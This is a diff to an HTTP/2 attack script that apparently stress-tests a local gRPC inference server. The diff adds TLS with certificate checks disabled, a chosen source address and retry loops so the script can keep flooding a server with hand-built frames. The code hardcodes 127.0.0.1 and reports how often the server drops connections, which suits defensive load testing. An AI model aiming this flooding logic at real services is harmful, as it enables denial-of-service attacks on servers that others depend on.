@@ -1,7 +1,7 @@
 #!/usr/bin/python3
 """HTTP/2 as an attacker speaks it: frames by hand, sent as fast as they go.
 
-    http2_attacks.py KIND --port PORT --seconds 5 [--connections 4]
+    http2_attacks.py KIND --port PORT --seconds 5 [--connections 4] [--tls] [--source 127.0.0.2]
 
 A connection that the server closes is opened anew at once. Prints one line of JSON: what was sent, and how often the
 server closed a connection. Run as a program of its own, so that it does not slow the client down that measures.
@@ -10,12 +10,14 @@ import argparse
 import json
 import selectors
 import socket
+import ssl
 import struct
 import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
 END_STREAM, END_HEADERS = 1, 4
+WOULD_BLOCK = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)
 GENERATE = b"/winnow.v1.InferenceService/Generate"
 # Streams for each connection before it is opened anew: their blocks are made once.
 STREAMS = 100_000
@@ -121,13 +123,13 @@ def kinds():
 class Attacker:
     """One connection at a time, and the blocks that are sent on it. What the server sends is read and dropped."""
 
-    def __init__(self, port, make_blocks, prepared):
-        self.port, self.make_blocks, self.prepared = port, make_blocks, prepared
+    def __init__(self, connect, make_blocks, prepared):
+        self.open, self.make_blocks, self.prepared = connect, make_blocks, prepared
         self.sent, self.closed = 0, 0
         self.connect()
 
     def connect(self):
-        self.socket = socket.create_connection(("127.0.0.1", self.port), timeout=5)
+        self.socket = self.open()
         self.socket.setblocking(False)
         self.blocks = iter(self.prepared) if self.prepared else self.make_blocks()
         self.left = b""
@@ -141,7 +143,7 @@ class Attacker:
                 count = self.socket.send(self.left)
                 self.sent += count
                 self.left = self.left[count:]
-        except BlockingIOError:
+        except WOULD_BLOCK:
             pass
         except (StopIteration, OSError):
             self.closed += 1
@@ -149,7 +151,9 @@ class Attacker:
         try:
             while self.socket.recv(65536):
                 pass
-        except BlockingIOError:
+            self.closed += 1
+            return False
+        except WOULD_BLOCK:
             pass
         except OSError:
             self.closed += 1
@@ -157,7 +161,19 @@ class Attacker:
         return True
 
 
-def attack(kind, port, seconds, connections):
+def connector(port, tls, source):
+    def connect():
+        plain = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(source, 0))
+        if not tls:
+            return plain
+        context = ssl.create_default_context()
+        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+        context.set_alpn_protocols(["h2"])
+        return context.wrap_socket(plain)
+    return connect
+
+
+def attack(kind, connect, seconds, connections):
     make_blocks = kinds()[kind]
     # Python makes a stream's bytes slower than the kernel sends them.
     prepared = list(make_blocks()) if kind.startswith("rapid") else None
@@ -166,7 +182,7 @@ def attack(kind, port, seconds, connections):
     selector = selectors.DefaultSelector()
     attackers = []
     for _ in range(connections):
-        attacker = Attacker(port, make_blocks, prepared)
+        attacker = Attacker(connect, make_blocks, prepared)
         attackers.append(attacker)
         selector.register(attacker.socket, selectors.EVENT_WRITE, attacker)
     failed = 0
@@ -177,11 +193,15 @@ def attack(kind, port, seconds, connections):
                 continue
             selector.unregister(attacker.socket)
             attacker.socket.close()
-            try:
-                attacker.connect()
-            except OSError:
-                failed += 1
-                attacker.connect()
+            while time.monotonic() < until + 5:
+                try:
+                    attacker.connect()
+                    break
+                except OSError:
+                    failed += 1
+                    time.sleep(0.01)
+            else:
+                return  # nobody is there any more
             selector.register(attacker.socket, selectors.EVENT_WRITE, attacker)
     for attacker in attackers:
         attacker.socket.close()
@@ -195,8 +215,10 @@ def main():
     parser.add_argument("--port", type=int, required=True)
     parser.add_argument("--seconds", type=float, default=5)
     parser.add_argument("--connections", type=int, default=4)
+    parser.add_argument("--tls", action="store_true")
+    parser.add_argument("--source", default="127.0.0.1", help="the address to come from")
     args = parser.parse_args()
-    attack(args.kind, args.port, args.seconds, args.connections)
+    attack(args.kind, connector(args.port, args.tls, args.source), args.seconds, args.connections)
 
 
 if __name__ == "__main__":
